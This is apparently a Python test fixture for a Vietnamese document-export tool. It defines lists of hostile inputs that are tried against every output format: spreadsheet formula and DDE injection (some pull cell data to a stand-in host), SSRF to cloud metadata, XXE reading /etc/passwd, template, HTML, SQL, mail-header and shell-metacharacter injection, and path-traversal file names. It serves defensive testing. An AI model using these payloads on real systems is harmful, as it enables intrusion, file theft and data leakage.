"""What a hostile or careless hand may type, name or send: every kind of output is tried with all of it.

One list, so that a payload that is added here is tried everywhere. `PAYLOADS` can be typed into a cell; `NAMES` are
names of files, tabs, divisions and members of archives; `ADDRESSES` stand where an e-mail address is expected.
"""

from __future__ import annotations

FORMULAS = (
    "=1+1", "==1+1", "=", "{=1+1}", "{=SUM(A1:A9)}", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "- Tham gia ý kiến", "@x", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "'=1+1", "'", "''", "=HYPERLINK(\"http://x.vn\";\"bấm\")", "=IMPORTRANGE(\"x\";\"A1\")",
    "=IMPORTXML(CONCAT(\"http://x.vn/?\";A1);\"//a\")", "=WEBSERVICE(\"http://x.vn\")", "=IMAGE(\"http://x.vn/a.png\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"", "=RTD(\"x\";;\"y\")",
    "=EXEC(\"calc\")", "=CALL(\"kernel32\";\"WinExec\";\"JCJ\";\"calc\";0)", "＝1+1", "%0A=1+1",
    "_x003D_1+1", "_x0041_",
)  # fmt: skip
LINKS = (
    "http://x.vn/a?b=1", "https://x.vn/a b", "ftp://x.vn", "mailto:a@x.vn", "a@x.vn", "www.x.vn", "file:///c:/a.xlsx",
    "internal:'Tổng quan'!A1", "external:../a.xlsx", r"\\may\chia\a.xlsx", "javascript:alert(1)", "#gid=0",
    "http://169.254.169.254/latest/meta-data/",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ config.items() }}", "{% for x in y %}", "{% raw %}", "{#", "{MÃ}", "{0}", "{name}", "{period.label}",
    "%s", "%(name)s", "%n%n%d", "\\1", "\\g<0>", "${7*7}", "$1", "#{7*7}", "`id`", "$(id)", "‹kỳ này›", "[9]", "[^1]",
)  # fmt: skip
MARKUP = (
    "<w:p>", "<w:instrText>INCLUDETEXT c:\\a</w:instrText>", "]]>", "<![CDATA[x]]>", "&amp;", "&#61;1+1", "&x;", "<!--",
    "<?xml version=\"1.0\"?>", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "<f>1+1</f>",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "</td></table>",
    "<a href=\"http://x.vn\">bấm</a>", "</style><style>*{display:none}</style>", "<meta http-equiv=refresh content=0>",
    "<!--#include virtual=\"/etc/passwd\"-->", "PAGE \\* MERGEFORMAT", "INCLUDEPICTURE \"http://x.vn/a.png\"",
)  # fmt: skip
HEADERS = (
    "x\r\nBcc: ai-do@example.com", "x\nX-Header: 1", "x\r\n\r\n<b>thân thư</b>", "x\r\n.\r\nQUIT", "=?utf-8?b?eA==?=",
    "\"D\" <d@example.com>, e@example.com", "x;y,z:w", "x\u2028Bcc: a@example.com", "x\x85Bcc: a@example.com",
)  # fmt: skip
CHARACTERS = (
    "a\x00b\x0bc", "\x1b[2J\x1b]0;x\x07", "\x1b]8;;http://x.vn\x1b\\bấm\x1b]8;;\x1b\\", "\x9b31mđỏ", "a\x08\x08b",
    "\x7f", "\ud800x", "x\udc00", "\ufffe\uffff", "\ufeffx", "\u202eđảo\u202c", "\u2066x\u2069",
    "a\u200bb", "a\u00adb", "\u2029x", "e\u0301\u0302", "😀👨‍👩‍👧", "مرحبا", "ﬁ", "dòng 1\ndòng 2", "dòng 1\r\ndòng 2",
    "  hai đầu  ", "a\tb",
)  # fmt: skip
QUERIES = (
    "'; DROP TABLE version; --", "' OR '1'='1", "\" OR 1=1 --", "x' UNION SELECT body FROM blob --", ":p", "?",
    "%", "_", "\\", "x'); ATTACH DATABASE '/tmp/x' AS y; --",
)  # fmt: skip
NUMBERS = ("1007", "1.007", "1E5", "03", "1/2", "01/02/2024", "12:30", "TRUE", "#REF!", "#N/A", "NaN", "1e999", "-0")

PAYLOADS = (*FORMULAS, *LINKS, *TEMPLATES, *MARKUP, *HEADERS, *CHARACTERS, *QUERIES, *NUMBERS)

NAMES = (
    "../x", "..\\x", "../../../../etc/passwd", "/etc/passwd", "C:\\x", "C:x", "\\\\may\\chia\\x", "~/x", "$HOME/x",
    "%TEMP%\\x", "CON", "NUL.xlsx", "con.txt", "COM1", "COM¹", "LPT9.tar.gz", "a:b", "a<b", "a>b", "a|b", "a?b", "a*b",
    "a\"b", "a.", "a ", ".", "..", ".an", "~$a.xlsx", "-rf", "--config=x", "x" * 300, "ữ" * 200, "a\nb", "a\x00b",
    "\x1b[2Jx", "\u202exslx.a", "a/b/c", "=cmd|' /C calc'!A0.xlsx", "<script>.xlsx", "'; DROP TABLE version; --.xlsx",
    "x;id", "x&calc", "x`id`", "$(id)", "x%n", "{{7*7}}", "x\r\nBcc: a@x.vn",
)  # fmt: skip

ADDRESSES = (
    "a@x.vn\r\nBcc: b@x.vn", "a@x.vn, b@x.vn", "a@x.vn;b@x.vn", "<a@x.vn>", "\"b@x.vn\" <a@x.vn>", "a@x.vn b@x.vn",
    "a@x.vn\nDATA", "a@x.vn> SIZE=9\r\nRCPT TO:<b@x.vn", "@x.vn", "a@", "a", "a@@x.vn", "a@x.vn\x00", "a@[127.0.0.1]",
    "|calc@x.vn", "-oQ/tmp@x.vn", "../x@x.vn", "đ@x.vn", "a@x..vn", "a @x.vn",
)  # fmt: skip
